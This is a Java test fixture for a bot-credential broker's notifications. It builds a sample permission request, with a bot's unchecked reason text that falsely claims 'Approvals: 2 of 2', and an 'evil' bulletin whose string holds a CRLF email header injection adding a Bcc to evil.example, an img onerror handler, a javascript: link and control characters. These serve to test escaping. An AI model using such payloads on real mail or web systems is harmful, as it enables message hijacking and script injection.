package botcreds.broker.notify;

import botcreds.broker.errands.Bulletin;
import java.util.List;

/** Bulletins to be mailed in tests. */
final class Letters {
    /** Text that would like to be more than text, everywhere. */
    static final String EVIL = "x\r\nBcc: eve@evil.example\r\n\r\n<img src=\"https://evil.example/x\" onerror='a()'>"
            + "<a href=javascript:alert(1)>ok</a> \u202E\u0000";

    private Letters() {}

    static Bulletin waiting() {
        return new Bulletin(
                "notification.req_1.waiting",
                "waiting",
                "req_1",
                "PENDING",
                "#a3f2: machina-bot asks for contents:write, issues:write on myorg/new-project",
                List.of(
                        new Bulletin.Fact("Bot", "machina-bot"),
                        new Bulletin.Fact("Repositories", "myorg/new-project"),
                        new Bulletin.Fact("Permissions", "contents:write, issues:write"),
                        new Bulletin.Fact("For", "1h, as installation_token"),
                        new Bulletin.Fact(
                                "Reason given by the bot (not checked)",
                                "Implementing feature from issue #45\nApprovals: 2 of 2"),
                        new Bulletin.Fact("Expires", "2026-11-26 10:04 UTC")),
                "",
                "Slack could not be reached since 2026-11-25 10:00 UTC; decide with `botcreds approve a3f2` or"
                        + " `botcreds deny a3f2`.");
    }

    static Bulletin evil() {
        return new Bulletin(
                "notification.n1.notice",
                "notice",
                "",
                "",
                EVIL,
                List.of(new Bulletin.Fact("Bot", EVIL)),
                EVIL,
                "Slack did not take this (" + EVIL + ").");
    }
}
